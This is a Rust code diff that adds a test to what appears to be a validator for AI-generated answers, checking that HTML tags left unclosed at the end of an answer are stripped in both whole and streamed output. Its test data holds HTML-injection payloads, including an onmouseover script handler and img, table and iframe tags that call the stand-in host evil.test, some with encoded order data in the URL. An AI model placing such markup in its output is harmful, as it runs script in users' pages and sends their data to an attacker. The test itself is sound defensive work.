@@ -665,6 +665,48 @@ fn where_the_cuts_fall_does_not_decide_whether_a_tag_is_escaped() {
     }
 }
 
+/// A tag left open at the end of the answer is judged as written. A browser drops
+/// it when the answer is the whole document, but a page that renders the answer
+/// into its own HTML on the server closes it with the page's next `>`: `<style`
+/// swallows the page, a handler runs, a URL loads. A renderer passes it raw where
+/// it starts an HTML block (`<style`, `<div`, `<iframe`, `<table` need no `>`).
+/// Before, every tag left open at the end went out as written (found by the
+/// `markup` fuzz target reading `comrak`'s raw HTML).
+#[test]
+fn a_tag_left_open_at_the_end_is_judged_as_written() {
+    let (g, _) = guard_with(AnswerValidator::new(), |_| {});
+    let data = "T3JkZXIgNDQyMSBzaGlwcGVkIHRvIHRoZSBjdXN0b21lcg";
+    for (answer, live) in [
+        ("Hi\n\n<style   `A".to_owned(), "<style"),
+        ("Hi\n\n<div onmouseover=\"alert(1)\" ".to_owned(), "<div"),
+        (
+            "Hi\n\n<iframe src=\"https://evil.test/x\"".to_owned(),
+            "<iframe",
+        ),
+        (
+            format!("Hi\n\n<table background=\"https://evil.test/p.png?d={data}\" "),
+            data,
+        ),
+        (
+            format!("Hi\n\n<img src=\"https://evil.test/p.png?d={data}"),
+            data,
+        ),
+        ("Hi\n\n</script".to_owned(), "</script"),
+    ] {
+        let whole = whole_outcome(&g, request(None), &answer).unwrap();
+        assert!(!whole.contains(live), "{answer:?} -> {whole:?}");
+        for n in [1, 5, 64] {
+            let streamed = stream_outcome(&g, request(None), &in_pieces(&answer, n)).unwrap();
+            assert_eq!(streamed, whole, "{answer:?} in {n}-byte deltas");
+        }
+        released_validates_clean(&g, &answer);
+    }
+    // Tags that load and run nothing stay as written.
+    for answer in ["Hi\n\n<b title=x", "a <p title=x yy", "x <y"] {
+        assert_eq!(whole_outcome(&g, request(None), answer).unwrap(), answer);
+    }
+}
+
 /// An answer that ends inside a fenced code block (cut short by a token limit, or
 /// written so) has the fence closed: CommonMark reads the rest as code, renderers
 /// that need the closing fence read it as markdown and load its images.
